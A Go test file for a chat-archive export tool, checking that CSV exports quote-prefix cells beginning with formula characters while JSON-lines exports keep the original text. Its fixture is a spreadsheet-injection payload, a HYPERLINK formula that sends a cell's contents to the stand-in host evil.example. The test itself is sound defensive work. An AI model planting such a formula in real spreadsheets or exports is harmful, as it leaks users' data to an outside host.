package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/imarchive/imarchive/compliance/export"
	"github.com/imarchive/imarchive/event"
	"github.com/imarchive/imarchive/internal/csvcell"
	"github.com/imarchive/imarchive/internal/testenv/archivetest"
	"github.com/imarchive/imarchive/queries"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"click me")`

// TestExportCSVNeutralizesFormulas: a chat message that is a spreadsheet formula, and a raw payload
// whose Base64 begins with '+', are written to a CSV export quote-prefixed, so a spreadsheet shows
// them as text; the manifest names the escaping, Verify reads the values back (the payload hashes
// match), and the JSON-lines export keeps the text byte for byte.
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	_, conn := archivetest.Migrated(t)
	e := event.Event{SchemaVersion: 1, EventID: "f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0", Source: event.SourceNetease,
		App: archivetest.NeteaseApp, Kind: event.KindMessage, Op: event.OpSend, PlatformType: "48",
		OccurredAtMs: archivetest.At(time.Minute), ReceivedAtMs: archivetest.At(time.Minute) + 100, MsgTimeMs: archivetest.At(time.Minute),
		Actor: "mallory", MsgID: "9001", Body: formula, Target: event.Target{Server: archivetest.S1, Channel: archivetest.C1},
		Attrs: map[string]string{"eventType": "48", "fromAccount": "mallory", "body": formula, "msgIdServer": "9001"}}
	archivetest.WriteEvents(t, conn, e)
	raw := archivetest.RawRecord(e, 0, 0)
	raw.Value = append([]byte{0xfb, 0xef}, raw.Value...) // Base64 "++…"
	archivetest.WriteRaw(t, conn, raw)

	sel := wide
	sel.App, sel.Account = archivetest.NeteaseApp, "mallory"
	dir, res, _ := run(t, conn, sel, export.FormatCSV)
	if res.Manifest.CSVEscaping != csvcell.Rule {
		t.Errorf("manifest csv_escaping %q, want the rule", res.Manifest.CSVEscaping)
	}
	cells := func(name, column string) []string {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for i, h := range recs[0] {
			if h == column {
				for _, r := range recs[1:] {
					out = append(out, r[i])
				}
			}
		}
		return out
	}
	if got := cells("messages.csv", "body"); len(got) != 1 || got[0] != "'"+formula {
		t.Errorf("messages.csv body cells %q, want the formula quote-prefixed", got)
	}
	if got := cells("raw_callbacks.csv", "body_base64"); len(got) != 1 || !strings.HasPrefix(got[0], "'++") {
		t.Errorf("raw_callbacks.csv body_base64 cells %q, want '++…", got)
	}
	rep, err := export.Verify(dir, res.ManifestSHA256)
	if err != nil || !rep.OK() || rep.Payloads != 1 {
		t.Fatalf("verify: %v, %d payloads, problems %v", err, rep.Payloads, rep.Problems)
	}

	jdir, _, _ := run(t, conn, sel, export.FormatJSONL)
	msgs := readJSONL(t, filepath.Join(jdir, "messages.jsonl"))
	if len(msgs) != 1 || msgs[0]["body"] != formula {
		t.Errorf("messages.jsonl body %v, want the text as sent", msgs)
	}
	if b, _ := os.ReadFile(filepath.Join(jdir, export.ManifestName)); bytes.Contains(b, []byte("csv_escaping")) {
		t.Error("a JSON-lines manifest names a CSV escaping")
	}

	// imarchive query --format csv writes through the same writer.
	var out bytes.Buffer
	q := queries.Query{Name: "t", SQL: `SELECT {f:String} AS a, '-5' AS b, '@SUM(1)' AS c, 'plain' AS d`}
	if _, err := queries.Run(context.Background(), conn, q, map[string]string{"f": formula}, "csv", &out); err != nil {
		t.Fatal(err)
	}
	want := "a,b,c,d\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click me\"\")\",-5,'@SUM(1),plain\n"
	if out.String() != want {
		t.Errorf("query csv:\n%s\nwant\n%s", out.String(), want)
	}
}
